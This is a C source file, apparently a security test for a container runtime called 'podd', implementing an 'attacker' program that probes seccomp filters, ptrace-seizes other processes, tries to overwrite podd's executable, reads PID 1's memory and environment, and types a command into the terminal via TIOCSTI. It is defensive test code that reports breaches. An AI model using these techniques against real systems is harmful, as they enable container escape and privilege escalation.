/* The attacker: a static program that runs in a container and tries to get out of it, or to take more than it was given.
 *
 *   attacker calls           asks the filter about each system call, by number, in each way of entering the kernel, and about each
 *                            family of sockets; none is made: a second filter hands what the first lets through to this program
 *   attacker seize           takes hold of each process that appears in its PID namespace, as early as it can; tells of one that is more
 *                            than itself, and of each file of podd's that it can write to
 *   attacker pause           what PID 1 of a shared PID namespace gives away
 *   attacker files DIR...    each file there that can be read, and, marked "w", written to (root opens what nobody may write to, for nothing)
 *   attacker linger FILE     leaves behind a process of another session that heeds no signal, writes FILE, and hangs
 *   attacker crash           dumps core
 *   attacker key add|find    a key in the session keyring
 *   attacker type            types a command at its terminal, for whoever reads from it next
 *   attacker nap             sleeps, and ignores SIGTERM */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/filter.h>
#include <linux/keyctl.h>
#include <linux/seccomp.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <stdbool.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

/* --- calls --------------------------------------------------------------------------------------------------------------------------- */

#ifdef __x86_64__
enum {
	CALLS_MAX = 600,
	FAMILIES_MAX = 46,
	LET_THROUGH = 4000, /* no errno of the kernel's */
	X32 = 0x40000000,
	SOCKET_64 = 41,
	SOCKET_32 = 359,
	URETPROBE =
		335, /* and uprobe: the kernel asks no filter about them, and kills who makes them from elsewhere than a probe */
	UPROBE = 336,
	NOT_ASKED = -1,
};

enum entry { NATIVE, BY_INT80, WITH_X32, ENTRIES };

static const char *const entry_names[] = { [NATIVE] = "x86_64", [BY_INT80] = "i386", [WITH_X32] = "x32" };

/* Shared with the process that asks. */
static struct answers {
	volatile int listener; /* its descriptor of the second filter */
	volatile bool done;
	int calls[ENTRIES][CALLS_MAX + 1];
	int families[ENTRIES][FAMILIES_MAX + 1];
} * answers;

static int ask(enum entry e, long number, long argument)
{
	long r;

	if (e == NATIVE && (number == URETPROBE || number == UPROBE))
		return NOT_ASKED;
	if (e == BY_INT80) /* which leaves r8 to r11 undefined */
		__asm__ volatile("int $0x80"
		                 : "=a"(r)
		                 : "0"(number), "b"(argument), "c"(0L), "d"(0L), "S"(0L), "D"(0L)
		                 : "memory", "r8", "r9", "r10", "r11");
	else
		__asm__ volatile("syscall"
		                 : "=a"(r)
		                 : "0"(e == WITH_X32 ? number | X32 : number), "D"(argument), "S"(0L), "d"(0L)
		                 : "memory", "rcx", "r11");
	return -(int)r;
}

static int second_filter(void)
{
	struct sock_filter all = { .code = BPF_RET | BPF_K, .k = SECCOMP_RET_USER_NOTIF };
	struct sock_fprog program = { .len = 1, .filter = &all };

	if (prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) < 0)
		return -errno;
	long fd = syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, SECCOMP_FILTER_FLAG_NEW_LISTENER, &program);
	return fd < 0 ? -errno : (int)fd;
}

static _Noreturn void ask_all(void)
{
	answers->listener = second_filter();
	for (int e = 0; e < ENTRIES; e++) {
		for (int n = 0; n <= CALLS_MAX; n++)
			answers->calls[e][n] = ask((enum entry)e, n, 0);
		for (int f = 0; f <= FAMILIES_MAX; f++)
			answers->families[e][f] = ask((enum entry)e, e == BY_INT80 ? SOCKET_32 : SOCKET_64, f);
	}
	answers->done = true;
	for (;;)
		;
}

static void answer(int listener)
{
	struct seccomp_notif q = { 0 };
	struct seccomp_notif_resp r = { .error = -LET_THROUGH };

	if (ioctl(listener, SECCOMP_IOCTL_NOTIF_RECV, &q) < 0)
		return;
	r.id = q.id;
	(void)ioctl(listener, SECCOMP_IOCTL_NOTIF_SEND, &r);
}

static const char *verdict(int error)
{
	static char other[16];

	switch (error) {
	case LET_THROUGH:
		return "allowed";
	case EPERM:
		return "EPERM";
	case ENOSYS:
		return "ENOSYS";
	}
	(void)snprintf(other, sizeof(other), "errno-%d", error);
	return other;
}

/* "x86_64 EPERM 101 103 134-136" */
static void print_verdicts(const char *what, const int *errors, int max)
{
	static const int kinds[] = { LET_THROUGH, EPERM, ENOSYS };

	for (size_t k = 0; k < sizeof(kinds) / sizeof(kinds[0]); k++) {
		printf("%s %s", what, verdict(kinds[k]));
		for (int i = 0; i <= max; i++) {
			int first = i;
			if (errors[i] != kinds[k])
				continue;
			while (i < max && errors[i + 1] == kinds[k])
				i++;
			printf(i > first ? " %d-%d" : " %d", first, i);
		}
		printf("\n");
	}
	for (int i = 0; i <= max; i++)
		if (errors[i] != LET_THROUGH && errors[i] != EPERM && errors[i] != ENOSYS && errors[i] != NOT_ASKED)
			printf("%s %s %d\n", what, verdict(errors[i]), i);
}

static int calls(void)
{
	char what[64];

	answers = mmap(NULL, sizeof(*answers), PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	if (answers == MAP_FAILED)
		return 1;
	answers->listener = -1;
	/* With its descriptors, so that the one that only it can make is this process's, too. */
	long pid = syscall(SYS_clone, CLONE_FILES | SIGCHLD, 0, 0, 0, 0);
	if (pid == 0)
		ask_all();
	while (answers->listener == -1)
		(void)sched_yield();
	if (pid < 0 || answers->listener < 0)
		return 1;
	while (!answers->done) {
		struct pollfd p = { .fd = answers->listener, .events = POLLIN };
		if (poll(&p, 1, 10) > 0)
			answer(answers->listener);
	}
	(void)kill((pid_t)pid, SIGKILL);
	for (int e = 0; e < ENTRIES; e++) {
		print_verdicts(entry_names[e], answers->calls[e], CALLS_MAX);
		(void)snprintf(what, sizeof(what), "%s socket", entry_names[e]);
		print_verdicts(what, answers->families[e], FAMILIES_MAX);
	}
	return 0;
}
#else
static int calls(void)
{
	return 1;
}
#endif

/* --- processes ----------------------------------------------------------------------------------------------------------------------- */

static uint64_t capabilities(pid_t pid)
{
	char path[64], line[256];
	unsigned long long caps = 0;

	(void)snprintf(path, sizeof(path), "/proc/%d/status", (int)pid);
	FILE *f = fopen(path, "re");
	while (f && fgets(line, sizeof(line), f))
		(void)sscanf(line, "CapPrm: %llx", &caps);
	if (f)
		(void)fclose(f);
	return caps;
}

static void read_link(pid_t pid, const char *what, char *ret, size_t size)
{
	char path[64];

	(void)snprintf(path, sizeof(path), "/proc/%d/%s", (int)pid, what);
	ssize_t n = readlink(path, ret, size - 1);
	ret[n < 0 ? 0 : n] = '\0';
}

/* A descriptor is kept of podd's program; once nobody runs it, it may be written to, unless it is sealed. */
static int podd_programs[256];
static size_t podd_program_count;

static void keep_program(pid_t pid)
{
	char path[64], name[256];

	if (podd_program_count == sizeof(podd_programs) / sizeof(podd_programs[0]))
		return;
	(void)snprintf(path, sizeof(path), "/proc/%d/exe", (int)pid);
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return;
	(void)snprintf(path, sizeof(path), "fd/%d", fd); /* it may have executed another one meanwhile */
	read_link(getpid(), path, name, sizeof(name));
	if (strstr(name, "podd"))
		podd_programs[podd_program_count++] = fd;
	else
		(void)close(fd);
}

static void write_to_programs(void)
{
	static const char junk[] = "junk";
	char path[64];

	for (size_t i = 0; i < podd_program_count; i++) {
		(void)snprintf(path, sizeof(path), "/proc/self/fd/%d", podd_programs[i]);
		int fd = open(path, O_RDWR | O_CLOEXEC);
		if (fd < 0)
			continue;
		if (pwrite(fd, junk, sizeof(junk), 0) >= 0 || ftruncate(fd, 0) == 0)
			printf("breach: wrote to podd's program\n");
		(void)close(fd);
	}
}

/* What only a tracer may see of a process, without stopping it. */
static void look_through(pid_t pid, uint64_t own)
{
	static const char *const names[] = { "root", "cwd", "mem", "environ" };
	char path[64];

	for (size_t i = 0; i < sizeof(names) / sizeof(names[0]); i++) {
		(void)snprintf(path, sizeof(path), "/proc/%d/%s", (int)pid, names[i]);
		int fd = open(path, O_RDONLY | O_CLOEXEC | O_NONBLOCK);
		uint64_t theirs = capabilities(pid);
		if (fd >= 0 && (theirs & ~own))
			printf("breach: opened %s of a process with %016llx\n", names[i], (unsigned long long)theirs);
		if (fd >= 0)
			(void)close(fd);
	}
}

static bool seized(pid_t pid, uint64_t own, const char *mounts)
{
	char theirs[64], filter[] = "Seccomp:";
	int status;

	if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) < 0)
		return false;
	if (ptrace(PTRACE_INTERRUPT, pid, NULL, NULL) == 0 && waitpid(pid, &status, __WALL) == pid && WIFSTOPPED(status)) {
		uint64_t caps = capabilities(pid);
		char path[64], line[256];
		bool filtered = false;
		(void)snprintf(path, sizeof(path), "/proc/%d/status", (int)pid);
		FILE *f = fopen(path, "re");
		while (f && fgets(line, sizeof(line), f))
			filtered = filtered || (strncmp(line, filter, strlen(filter)) == 0 && strchr(line, '2'));
		if (f)
			(void)fclose(f);
		read_link(pid, "ns/mnt", theirs, sizeof(theirs));
		if (caps & ~own)
			printf("breach: stopped a process with %016llx\n", (unsigned long long)caps);
		if (!filtered)
			printf("breach: stopped a process without a filter\n");
		if (*mounts && *theirs && strcmp(theirs, mounts) != 0)
			printf("breach: stopped a process in another mount namespace\n");
		(void)ptrace(PTRACE_DETACH, pid, NULL, NULL);
	}
	return true;
}

/* Numbers are given out in turn: the next process is one of the next few. */
static _Noreturn void seize(bool alone)
{
	uint64_t own = capabilities(getpid());
	char mounts[64];
	pid_t last = getpid();
	unsigned held = 0, seen = 0;

	read_link(getpid(), "ns/mnt", mounts, sizeof(mounts));
	printf("spins\n");
	for (uint64_t round = 0;; round++) {
		for (pid_t p = last + 1; p <= last + 64; p++) {
			if (kill(p, 0) < 0 && errno == ESRCH)
				continue;
			last = p;
			seen++;
			keep_program(p);
			look_through(p, own);
			held += seized(p, own, alone ? mounts : "");
			printf("saw %u, held %u, of podd's programs %zu\n", seen, held, podd_program_count);
			break;
		}
		if (round % 1000 == 0)
			write_to_programs();
	}
}

static int look_at_init(void)
{
	static const char *const links[] = { "exe", "root", "cwd", "ns/mnt" };
	char path[64], name[256];
	struct dirent *e;
	int entries = 0;

	for (size_t i = 0; i < sizeof(links) / sizeof(links[0]); i++) {
		read_link(1, links[i], name, sizeof(name));
		printf("%s %s\n", links[i], *name ? name : "hidden");
	}
	static const char *const files[] = { "environ", "mem", "maps" };
	for (size_t i = 0; i < sizeof(files) / sizeof(files[0]); i++) {
		(void)snprintf(path, sizeof(path), "/proc/1/%s", files[i]);
		int fd = open(path, O_RDONLY | O_CLOEXEC);
		printf("%s %s\n", files[i], fd < 0 ? "hidden" : read(fd, name, 1) == 1 ? "readable" : "empty");
		if (fd >= 0)
			(void)close(fd);
	}
	DIR *d = opendir("/proc/1/fd");
	while (d && (e = readdir(d)))
		entries += e->d_name[0] != '.';
	if (d)
		(void)closedir(d);
	printf("descriptors %d\n", entries);
	printf("trace %s\n", ptrace(PTRACE_SEIZE, 1, NULL, NULL) < 0 ? "refused" : "done");
	for (int s = 1; s < 65; s++)
		(void)kill(1, s);
	printf("capabilities %llx\n", (unsigned long long)capabilities(1));
	return 0;
}

static int linger(const char *file)
{
	(void)signal(SIGTERM, SIG_IGN);
	(void)signal(SIGHUP, SIG_IGN);
	pid_t pid = fork();
	if (pid == 0) {
		(void)setsid();
		if (fork() != 0)
			_exit(0);
		int fd = open(file, O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
		(void)!write(fd, "here\n", 5);
		(void)close(fd);
	} else {
		(void)waitpid(pid, NULL, 0);
	}
	for (;;)
		(void)pause();
}

/* --- files --------------------------------------------------------------------------------------------------------------------------- */

static void list_files(const char *dir)
{
	struct dirent *e;
	DIR *d = opendir(dir);

	while (d && (e = readdir(d))) {
		char path[4096], byte;
		struct stat st;
		if (e->d_name[0] == '.' || (strcmp(dir, "/proc") == 0 && e->d_name[0] >= '0' && e->d_name[0] <= '9'))
			continue;
		(void)snprintf(path, sizeof(path), "%s/%s", dir, e->d_name);
		if (lstat(path, &st) < 0)
			continue;
		if (S_ISDIR(st.st_mode))
			list_files(path);
		if (!S_ISREG(st.st_mode) && !S_ISCHR(st.st_mode))
			continue;
		int fd = open(path, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
		bool readable = fd >= 0 && read(fd, &byte, 1) == 1;
		if (fd >= 0)
			(void)close(fd);
		fd = S_ISREG(st.st_mode) && (st.st_mode & 0222) ? open(path, O_WRONLY | O_NONBLOCK | O_CLOEXEC) : -1;
		if (readable || fd >= 0)
			printf("%s%s\n", fd >= 0 ? "w " : "", path);
		if (fd >= 0)
			(void)close(fd);
	}
	if (d)
		(void)closedir(d);
}

/* --- the rest ------------------------------------------------------------------------------------------------------------------------ */

static int key(const char *verb)
{
	static const char type[] = "user", name[] = "podd-attack", value[] = "secret";
	long r = strcmp(verb, "add") == 0 ? syscall(SYS_add_key, type, name, value, sizeof(value), KEY_SPEC_SESSION_KEYRING)
	                                  : syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_SESSION_KEYRING, type, name, 0);

	printf("%s\n", r >= 0 ? "done" : strerror(errno));
	return 0;
}

static int type_command(void)
{
	for (const char *c = "touch /breach\n"; *c; c++)
		if (ioctl(0, TIOCSTI, c) < 0) {
			printf("typing: %s\n", strerror(errno));
			return 1;
		}
	printf("typed\n");
	return 0;
}

int main(int argc, char **argv)
{
	const char *verb = argc > 1 ? argv[1] : "";

	(void)setvbuf(stdout, NULL, _IOLBF, 0);
	if (strcmp(verb, "calls") == 0)
		return calls();
	if (strcmp(verb, "seize") == 0)
		seize(argc == 2);
	if (strcmp(verb, "pause") == 0)
		return look_at_init();
	if (strcmp(verb, "files") == 0) {
		for (int i = 2; i < argc; i++)
			list_files(argv[i]);
		return 0;
	}
	if (strcmp(verb, "linger") == 0 && argc == 3)
		return linger(argv[2]);
	if (strcmp(verb, "crash") == 0)
		abort();
	if (strcmp(verb, "key") == 0 && argc == 3)
		return key(argv[2]);
	if (strcmp(verb, "type") == 0)
		return type_command();
	if (strcmp(verb, "nap") == 0) {
		(void)signal(SIGTERM, SIG_IGN);
		for (;;)
			(void)pause();
	}
	return 2;
}
